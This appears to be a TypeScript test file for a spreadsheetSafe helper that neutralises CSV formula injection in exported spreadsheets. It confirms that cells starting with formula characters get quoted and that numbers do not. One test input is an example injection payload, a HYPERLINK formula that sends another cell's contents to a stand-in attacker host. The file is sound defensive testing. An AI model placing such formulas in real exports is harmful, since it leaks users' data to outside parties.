/** Issue 15 (9): no download cell a spreadsheet would run; numbers stay numbers. */
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { spreadsheetSafe } from "@/lib/export/spreadsheet-safe";

describe("spreadsheetSafe (OWASP CSV injection rule)", () => {
  it("quotes text starting with = + - @ tab or CR", () => {
    expect(spreadsheetSafe('=HYPERLINK("http://evil.example/?x="&A2,"Klik")')).toBe(`'=HYPERLINK("http://evil.example/?x="&A2,"Klik")`);
    for (const start of ["=", "+", "-", "@", "\t", "\r"]) expect(spreadsheetSafe(`${start}cmd`)).toBe(`'${start}cmd`);
  });

  it("leaves numbers, negative ones included, and ordinary text alone", () => {
    expect(spreadsheetSafe(-3.25)).toBe(-3.25);
    expect(spreadsheetSafe("-3.25")).toBe("-3.25");
    expect(spreadsheetSafe("-12")).toBe("-12");
    expect(spreadsheetSafe("95.45")).toBe("95.45");
    expect(spreadsheetSafe("Kota Banjarmasin")).toBe("Kota Banjarmasin");
    expect(spreadsheetSafe(null)).toBeNull();
    expect(spreadsheetSafe("")).toBe("");
  });

  it("property: the result never starts with a formula character unless it is a plain number", () => {
    fc.assert(
      fc.property(fc.oneof(fc.string(), fc.constantFrom("=", "+", "-", "@", "\t", "\r").chain((c) => fc.string().map((s) => c + s))), (text) => {
        const safe = spreadsheetSafe(text) as string;
        return !/^[=+\-@\t\r]/.test(safe) || /^-?[0-9]+(\.[0-9]+)?$/.test(safe);
      }),
      { numRuns: 2000 },
    );
  });
});
